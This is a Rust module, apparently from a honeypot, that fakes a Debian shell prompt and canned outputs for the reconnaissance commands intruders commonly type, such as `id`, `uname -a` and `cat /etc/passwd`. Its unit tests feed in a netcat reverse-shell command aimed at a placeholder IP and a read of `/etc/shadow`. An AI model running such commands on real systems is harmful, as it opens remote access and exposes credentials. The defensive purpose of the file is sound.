//! The shell a configured user gets: a prompt, and the answers a fresh Debian system gives to
//! the first commands intruders type (`id`, `uname -a`, `whoami`, `cat /etc/passwd`, ...);
//! everything else is "command not found". Pure functions, logged by the caller.

/// The prompt of `user` on `hostname`.
#[must_use]
pub fn prompt(user: &str, hostname: &str) -> String {
    let sign = if user == "root" { '#' } else { '$' };
    format!("{user}@{hostname}:~{sign} ")
}

/// The output and exit status of `command` run by `user` on `hostname`.
#[must_use]
pub fn answer(command: &str, user: &str, hostname: &str) -> (String, u32) {
    let program = command.split_whitespace().next().unwrap_or("");
    let home = if user == "root" {
        "/root".to_owned()
    } else {
        format!("/home/{user}")
    };
    let (uid, groups) = if user == "root" {
        (0, "0(root)".to_owned())
    } else {
        (1000, format!("1000({user}),27(sudo)"))
    };
    match program {
        "whoami" => (format!("{user}\n"), 0),
        "id" => (
            format!("uid={uid}({user}) gid={uid}({user}) groups={groups}\n"),
            0,
        ),
        "pwd" => (format!("{home}\n"), 0),
        "hostname" => (format!("{}\n", hostname), 0),
        "uname" if command.contains("-a") => (
            format!(
                "Linux {} 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n",
                hostname
            ),
            0,
        ),
        "uname" => ("Linux\n".to_owned(), 0),
        "cat" => {
            let file = command.split_whitespace().nth(1).unwrap_or("");
            match file {
                    "/etc/passwd" => (
                        format!(
                            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nsys:x:3:3:sys:/dev:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nsshd:x:104:65534::/run/sshd:/usr/sbin/nologin\n{user}:x:{uid}:{uid}:{user},,,:{home}:/bin/bash\n"
                        ),
                        0,
                    ),
                    "/etc/os-release" => (
                        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nNAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nVERSION=\"12 (bookworm)\"\nVERSION_CODENAME=bookworm\nID=debian\n".to_owned(),
                        0,
                    ),
                    "" => (String::new(), 0),
                    other => {
                        let shown: String = other.chars().filter(|c| !c.is_control()).take(128).collect();
                        (format!("cat: {shown}: No such file or directory\n"), 1)
                    }
                }
        }
        "ls" | "cd" | "echo" | "true" | "export" | "history" | "clear" => (String::new(), 0),
        _ => {
            let shown: String = program
                .chars()
                .filter(|c| !c.is_control())
                .take(64)
                .collect();
            (format!("-bash: {shown}: command not found\n"), 127)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{answer, prompt};

    #[test]
    fn answers_as_a_debian_shell() {
        assert_eq!(prompt("root", "srv01"), "root@srv01:~# ");
        assert_eq!(prompt("bob", "srv01"), "bob@srv01:~$ ");
        assert_eq!(answer("whoami", "bob", "h"), ("bob\n".to_owned(), 0));
        assert_eq!(
            answer("id", "root", "h"),
            ("uid=0(root) gid=0(root) groups=0(root)\n".to_owned(), 0)
        );
        assert_eq!(
            answer("nc -e /bin/sh 192.0.2.1 4444", "root", "h"),
            ("-bash: nc: command not found\n".to_owned(), 127)
        );
        assert_eq!(
            answer("cat /etc/shadow", "root", "h"),
            (
                "cat: /etc/shadow: No such file or directory\n".to_owned(),
                1
            )
        );
    }
}
